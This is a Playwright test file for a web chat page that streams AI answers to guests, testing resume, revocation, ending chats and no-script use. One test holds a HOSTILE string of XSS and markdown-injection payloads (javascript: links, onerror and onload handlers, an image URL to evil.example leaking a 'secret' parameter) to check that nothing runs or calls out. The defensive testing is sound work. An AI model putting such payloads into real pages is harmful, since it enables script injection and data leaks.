"""The pages in a real browser, on a phone and on a desktop: started, resumed, ended, attacked, without scripts."""

import asyncio
import re

import pytest
from playwright.async_api import Browser, BrowserContext, expect

from bot.services.chats import Delta
from playground.gemini import Break, Failure, Reply, text
from tests.web.sidecar import OWNER, House
from tests.web.visiting import (
    IN_BROWSER,
    PHONE,
    Opening,
    browser,
    context,
    gemini,
    house,
    on_both_sizes,
    opened,
    said,
    sqlite_db,
)

__all__ = ["browser", "context", "gemini", "house", "opened", "sqlite_db"]

pytestmark = IN_BROWSER


@on_both_sizes
async def test_a_guest_starts_asks_and_reads_the_answer_as_it_comes(house: House, opened: Opening) -> None:
    house.model.script(Reply([[text("One **two** ")], [text("three ")], Break.HOLD]))
    page = await opened((await house.link()).url)
    await said(page, "Count, please.")
    await expect(page.locator(".agent strong")).to_have_text("two")
    await expect(page.locator("#status")).to_contain_text("Writing an answer")
    await page.get_by_role("button", name="Stop the answer").click()
    await expect(page.locator("#status")).to_have_text(re.compile("Stopped"))
    await expect(page.locator(".agent")).to_have_text(re.compile(r"One two three\s+\(stopped here\)"))
    await page.reload()
    await expect(page.locator(".agent")).to_have_text(re.compile(r"One two three\s+\(stopped here\)"))
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")


async def test_why_it_takes_longer_stands_in_the_status_and_goes_away(
    house: House, opened: Opening, monkeypatch: pytest.MonkeyPatch
) -> None:
    again = asyncio.Event()

    async def wait(seconds: float) -> None:
        await again.wait()

    monkeypatch.setattr(house.model.model, "_sleep", wait)
    house.model.script(Failure(503, "UNAVAILABLE"), Reply([[text("Here it is. ")], Break.HOLD]))
    page = await opened((await house.link()).url)
    await said(page, "Hello?")
    await expect(page.locator("#status")).to_contain_text("It takes a little longer than usual. Trying again in")
    again.set()
    await expect(page.locator(".agent .words")).to_have_text(re.compile("Here it is"))
    await expect(page.locator("#status")).to_contain_text("Writing an answer")
    await expect(page.locator("#log")).not_to_contain_text("longer than usual")


async def test_a_reload_resumes_and_a_second_guest_sees_the_dead_page(
    house: House, opened: Opening, browser: Browser
) -> None:
    house.model.will_say("Hello, Robin.")
    created = await house.link()
    page = await opened(created.url)
    await said(page, "Hi.")
    await expect(page.locator(".agent .words")).to_have_text("Hello, Robin.")
    await page.goto(created.url)
    await expect(page.locator(".guest .words")).to_have_text("Hi.")
    await expect(page.locator(".agent .words")).to_have_text("Hello, Robin.")
    other = await (await browser.new_context()).new_page()
    await other.goto(created.url)
    await expect(other.get_by_role("heading")).to_have_text("This chat is not available")


async def test_a_reload_in_the_middle_of_an_answer_goes_on_with_it(house: House, opened: Opening) -> None:
    house.model.script(Reply([[text("It begins ")], [text("here ")], Break.HOLD]))
    page = await opened((await house.link()).url)
    await said(page, "Go.")
    await expect(page.locator(".agent .words")).to_have_text(re.compile("It begins here"))
    await page.reload()
    await expect(page.locator(".agent .words")).to_have_text(re.compile("It begins here"))
    await expect(page.get_by_role("button", name="Stop the answer")).to_be_visible()


async def test_an_answer_that_is_begun_again_is_read_from_its_beginning(house: House, opened: Opening) -> None:
    created = await house.link()
    page = await opened(created.url)
    async with house.db.read() as tables:
        (session,) = await tables.sessions.of(OWNER.workspace, created.link.id)

    async def tell(*deltas: Delta) -> None:
        for delta in deltas:
            await house.bus.tell(f"conversation:{session.conversation_id}", delta.packed())

    words = page.locator(".agent .words")
    await tell(Delta("t", "The 🙂 second "), Delta("t", "is ", 13))
    await expect(words).to_have_text(re.compile("^The 🙂 second is ?$"))
    await tell(Delta("t", "The 🙂 first, ", 0, 2))
    await expect(words).to_have_text(re.compile("^The 🙂 first, ?$"))
    await tell(Delta("t", "which a", 16), Delta("t", "and a gap", 40, 2), Delta("u", "of another turn", 7))
    await tell(Delta("t", "too.", 13, 2))
    await expect(words).to_have_text(re.compile("^The 🙂 first, too?.?$"))
    await expect(page.locator(".agent")).to_have_count(1)


async def test_revoking_ends_the_open_page_at_once(house: House, opened: Opening) -> None:
    created = await house.link()
    page = await opened(created.url)
    await house.links.revoke(OWNER, created.link.id)
    await expect(page.locator(".over")).to_contain_text("has ended the chat")
    await expect(page.get_by_role("link", name="Save the transcript")).to_be_visible()
    await page.reload()
    await expect(page.locator(".card")).to_contain_text("has ended the chat")


@on_both_sizes
async def test_the_guest_ends_the_chat_and_nothing_of_it_stays(house: House, opened: Opening) -> None:
    created = await house.link()
    page = await opened(created.url)
    await page.get_by_label("Message", exact=True).fill("a draft")
    await page.get_by_label("More").click()
    await page.get_by_role("button", name="End the chat").click()
    async with page.expect_response("**/end"):
        await page.get_by_role("dialog").get_by_role("button", name="End the chat").click()
    await expect(page.locator(".card")).to_contain_text("You ended this chat.")
    assert await page.evaluate("sessionStorage.length") == 0
    assert await page.context.cookies() == []
    await page.goto(created.url)
    await expect(page.get_by_role("heading")).to_have_text("This chat is not available")


HOSTILE = """[x](javascript:alert(1)) ![x](https://evil.example/p.png?q=secret) <img src=x onerror=alert(1)>
<script>alert(1)</script> <svg onload=alert(1)> [ok](https://bank.example@evil.example/) [site](https://evil.example/a)

```modal overlay" onclick="alert(1)
code
```

| a | <b>b</b> |
|---|---|
| c | ![d](https://evil.example/e) |

"""


async def test_hostile_text_makes_no_request_runs_nothing_and_leads_nowhere_unasked(
    house: House, opened: Opening
) -> None:
    page = await opened((await house.link()).url)
    heard: list[str] = []
    page.on("request", lambda asked: heard.append(asked.url))
    page.on("dialog", lambda dialog: heard.append(dialog.message))
    page.on("console", lambda told: heard.append(told.text))
    house.model.will_say(*[HOSTILE[at : at + 3] for at in range(0, len(HOSTILE), 3)], ">" * 50_000)
    await said(page, "Attack me.")
    await expect(page.locator(".agent .words a[href]")).to_have_count(1)
    await expect(page.locator("#status")).to_be_hidden()
    await page.reload()  # the same text, rendered by the server
    assert await page.locator(".words :is(img, script, svg, iframe, style)").count() == 0
    assert [told for told in heard if not told.startswith(house.url)] == []
    links = page.locator(".words a")
    assert [await link.get_attribute("href") for link in await links.all()] == ["https://evil.example/a"]
    await links.first.click()
    await expect(page.get_by_role("dialog")).to_contain_text("evil.example")
    await page.get_by_role("button", name="Stay here").click()
    assert len(page.context.pages) == 1


async def test_without_scripts_the_whole_chat_works_by_forms(house: House, browser: Browser) -> None:
    house.model.will_say("Hello **there**.")
    created = await house.link()
    page = await (await browser.new_context(java_script_enabled=False, **PHONE)).new_page()
    await page.goto(created.url)
    await page.get_by_role("checkbox").check()
    await page.get_by_role("button", name="Start the chat").click()
    await said(page, "Hi.")
    await expect(page.locator(".guest .words")).to_have_text("Hi.")
    async with asyncio.timeout(60):
        while not await page.locator(".agent").count():
            await page.get_by_role("link", name="Refresh").click()
    await expect(page.locator(".agent strong")).to_have_text("there")
    await page.get_by_label("More").click()
    await page.get_by_role("button", name="End the chat").click()
    await expect(page.locator(".card")).to_contain_text("You ended this chat.")


async def test_a_browser_that_only_looks_uses_nothing_up(house: House, context: BrowserContext) -> None:
    created = await house.link()
    page = await context.new_page()
    await page.goto(created.url, wait_until="networkidle")
    await page.close()
    async with house.db.read() as tables:
        link = await tables.links.get(OWNER.workspace, created.link.id)
    assert link
    assert link.used_sessions == 0
    assert await context.cookies() == []


@on_both_sizes
async def test_bullets_are_filled_and_labels_hold_what_is_seen(house: House, opened: Opening) -> None:
    house.model.will_say("- one\n  - two\n- three")
    page = await opened((await house.link()).url)
    await said(page, "List, please.")
    await expect(page.locator(".agent li").last).to_have_text("three")
    styles = "[...document.querySelectorAll('.agent ul')].map(list => getComputedStyle(list).listStyleType)"
    assert await page.evaluate(styles) == ["disc", "disc"]
    unlike = """[...document.querySelectorAll('[aria-label]')]
      .filter(node => node.matches('a, button, summary, input, textarea'))
      .map(node => [node.getAttribute('aria-label'), [...node.childNodes].map(each =>
        each.ariaHidden === 'true' ? '' : each.textContent).join('').trim()])
      .filter(([label, seen]) => !label.includes(seen))"""
    assert await page.evaluate(unlike) == []
